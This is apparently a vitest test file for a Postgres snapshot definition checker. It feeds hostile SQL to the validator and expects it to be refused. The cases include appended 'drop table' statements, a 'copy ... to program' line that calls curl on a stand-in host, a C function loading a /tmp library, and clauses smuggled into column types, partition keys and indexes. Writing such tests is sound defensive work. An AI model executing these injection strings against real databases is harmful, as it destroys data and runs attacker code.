/** What a hostile statistics file may try: every piece of SQL in it must be what it stands for, and nothing more. */

import { describe, expect, test } from 'vitest';
import { findBadDefinition, isReadingFunction } from '../../../main/planner/snapshot/definition-check.ts';
import type { Snapshot, SnapshotObject } from '../../../main/planner/snapshot/snapshot.ts';
import { smallSnapshot } from './small-snapshot.ts';

async function faultOf(change: (snapshot: Snapshot) => void): Promise<string | undefined> {
  const snapshot = smallSnapshot();
  change(snapshot);
  return findBadDefinition(snapshot);
}

const faultOfObject = (kind: SnapshotObject['kind'], definition: string, name = 'f') =>
  faultOf(({ objects }) => objects.push({ schema: 'public', name, kind, definition }));

test('a snapshot as we take it passes', async () => {
  expect(await faultOf(() => undefined)).toBeUndefined();
});

describe('an object', () => {
  test.each<[SnapshotObject['kind'], string]>([
    ['enum', `create type public.f as enum ('a')`],
    ['domain', 'create domain public.f as integer check (value > 1)'],
    ['composite', 'create type public.f as (a integer)'],
    ['range', 'create type public.f as range (subtype = float8)'],
    ['view', 'create view public.f as select 1'],
    ['sequence', 'create sequence public.f'],
    ['statistics', 'create statistics public.f on a, b from public.people'],
    ['collation', "create collation public.f (provider = icu, locale = 'de')"],
    ['function', `create function public.f(integer) returns integer language sql as 'select $1'`],
    ['function', `create function public.f() returns integer language sql return 1`],
    ['function', `create function public.f() returns integer language sql begin atomic select 1; end`],
    ['function', `create function public.f() returns integer language plpgsql as 'begin return 0; end'`],
    ['function', `create function public.f() returns void language plpgsql as 'begin return; end'`],
  ])('that is a %s passes: %s', async (kind, definition) => {
    expect(await faultOfObject(kind, definition)).toBeUndefined();
  });

  test.each<[SnapshotObject['kind'], string]>([
    ['enum', `create type public.f as enum ('a'); drop table people`],
    ['enum', ''],
    ['enum', 'drop table people'],
    ['enum', `create type public.g as enum ('a')`],
    ['enum', `create type f as enum ('a')`],
    ['enum', `create type other.f as enum ('a')`],
    ['view', 'create table public.f (a integer)'],
    ['view', 'create materialized view public.f as select 1'],
    ['view', 'create temp view f as select 1'],
    ['collation', 'create aggregate public.f (integer) (sfunc = int4pl, stype = integer)'],
    ['sequence', `do 'begin execute ''drop table people''; end'`],
    ['function', `copy people to program 'curl evil.example'`],
    ['function', `create function public.f() returns integer language c as '/tmp/evil.so', 'run'`],
    ['function', `create function public.f() returns integer language plpython3u as 'import os'`],
    ['function', `create function public.f() returns integer language plpgsql as 'begin perform pg_sleep(1); end'`],
    [
      'function',
      `create function public.f() returns integer language plpgsql as 'begin return 0; drop table people; end'`,
    ],
    ['function', `create function public.f() returns integer language sql as 'delete from people returning 1'`],
    ['function', `create function public.f() returns integer language sql as 'select 1; drop table people'`],
    [
      'function',
      `create function public.f() returns integer language sql as 'with x as (delete from people returning 1) select 1'`,
    ],
    ['function', `create function public.f() returns integer language sql as 'select 1 into x'`],
    ['function', `create function public.f() returns integer language sql begin atomic delete from people; end`],
    ['function', `create function public.f() returns integer as 'select 1'`],
    ['function', `create procedure public.f() language sql as 'select 1'`],
    ['function', `create function public.f() returns integer language sql as 'not sql'`],
  ])('that only calls itself a %s is refused: %s', async (kind, definition) => {
    expect(await faultOfObject(kind, definition)).toBe(`the definition of ${kind} public.f is not one`);
  });
});

describe('a table', () => {
  const columnFault = (change: object) =>
    faultOf(({ relations }) => Object.assign(relations[0]?.columns[0] ?? {}, change));

  test.each([
    'integer',
    'numeric(12,2)',
    'shop."Odd ""type"""[]',
    'timestamp(3) with time zone',
    'character varying(80)',
    'interval day to second',
  ])('may have columns of %s', async (type) => {
    expect(await columnFault({ type })).toBeUndefined();
  });

  test.each([
    '',
    'integer; drop table people',
    'integer, 1',
    'integer from people',
    'integer::text',
    'integer default 1',
    'integer --',
    'integer as x',
    '(integer)',
  ])('has no column of type %s', async (type) => {
    expect(await columnFault({ type })).toBe('column id of public.people is not one');
  });

  test.each(['1), (2', '1; drop table people', '1) from people where (true', ') x (', '', '1 as x'])(
    'has no column generated as %s',
    async (expression) => {
      expect(await columnFault({ generated: { kind: 'stored', expression } })).toBe(
        'column id of public.people is not one',
      );
    },
  );

  test('has nothing with a comment, which could swallow what follows; in quotes it is none', async () => {
    const generated = (expression: string) => columnFault({ generated: { kind: 'stored', expression } });
    expect(await generated('age + 1 -- one more')).toBeDefined();
    expect(await generated('age /* and */ + 1')).toBeDefined();
    expect(await generated(`'--' || '/*'`)).toBeUndefined();
  });

  test.each(['"C"', 'pg_catalog."en-x-icu"'])('may have the collation %s', async (collation) => {
    expect(await columnFault({ collation })).toBeUndefined();
  });

  test.each(['"C", 1', '"C" from people', ''])('has no collation %s', async (collation) => {
    expect(await columnFault({ collation })).toBeDefined();
  });

  test.each(['RANGE (id)', 'HASH (lower(email), age)', 'LIST (((age + 1)))'])(
    'may be partitioned by %s',
    async (partitionKey) => {
      expect(await faultOf(({ relations }) => Object.assign(relations[0] ?? {}, { partitionKey }))).toBeUndefined();
    },
  );

  test.each(['RANGE (id) tablespace evil', 'range (id); drop table people', 'RANGE (id) with (fillfactor = 10)', ''])(
    'is not partitioned by %s',
    async (partitionKey) => {
      expect(await faultOf(({ relations }) => Object.assign(relations[0] ?? {}, { partitionKey }))).toContain(
        'partitioning',
      );
    },
  );

  test.each([
    'DEFAULT; drop table people',
    'DEFAULT partition by range (id)',
    `FOR VALUES IN ('a') tablespace evil`,
    '',
  ])('is no partition %s', async (bound) => {
    const partitionOf = { schema: 'public', name: 'letters', bound };
    expect(await faultOf(({ relations }) => Object.assign(relations[0] ?? {}, { partitionOf }))).toContain(
      'partitioning',
    );
  });

  test.each(['CHECK (true), drop column id', 'CHECK (true); drop table people', 'UNIQUE (id)', ''])(
    'has no check %s',
    async (definition) => {
      const check = { name: 'c', kind: 'check' as const, definition, isValidated: true, columns: [] };
      expect(await faultOf(({ relations }) => relations[0]?.constraints.push(check))).toBe(
        'constraint c of public.people is not one',
      );
    },
  );
});

describe('an index', () => {
  const indexFault = (change: object) => faultOf(({ indexes }) => Object.assign(indexes[0] ?? {}, change));

  test.each([
    'CREATE INDEX people_pkey ON public.letters USING btree (id)',
    'CREATE INDEX other ON public.people USING btree (id)',
    'CREATE INDEX people_pkey ON public.people USING btree (id, age)',
    'CREATE INDEX people_pkey ON public.people USING btree (id) TABLESPACE evil',
    'CREATE INDEX people_pkey ON public.people USING btree (id); drop table people',
    'drop index people_pkey',
  ])('is not %s', async (definition) => {
    expect(await indexFault({ definition })).toBe('the definition of index public.people_pkey is not one');
  });

  test.each([
    { predicate: '1) or (1' },
    { predicate: 'true; drop table people' },
    { keys: [{}] },
    { keys: [{ column: 'id', expression: '1' }] },
  ])('has no %o', async (change) => {
    expect(await indexFault(change)).toBeDefined();
  });

  test.each(['int4_ops); drop table people; --', 'a.b(c)', 'x y', ''])(
    'has no operator class %s',
    async (operatorClass) => {
      expect(await indexFault({ keys: [{ column: 'id', operatorClass }] })).toBeDefined();
    },
  );

  test('may have one', async () => {
    expect(
      await indexFault({ keys: [{ column: 'id', operatorClass: 'pg_catalog.int8_ops' }], predicate: '(age > 3)' }),
    ).toBeUndefined();
  });
});

test('only a body that reads is taken for one', async () => {
  const body = (text: string) =>
    isReadingFunction(`create function public.f() returns integer language sql as $x$${text}$x$`);
  expect(await body('select 1')).toBe(true);
  expect(await body('')).toBe(true);
  expect(await body('insert into t values (1)')).toBe(false);
  expect(await body('select nextval(1); notify x')).toBe(false);
});
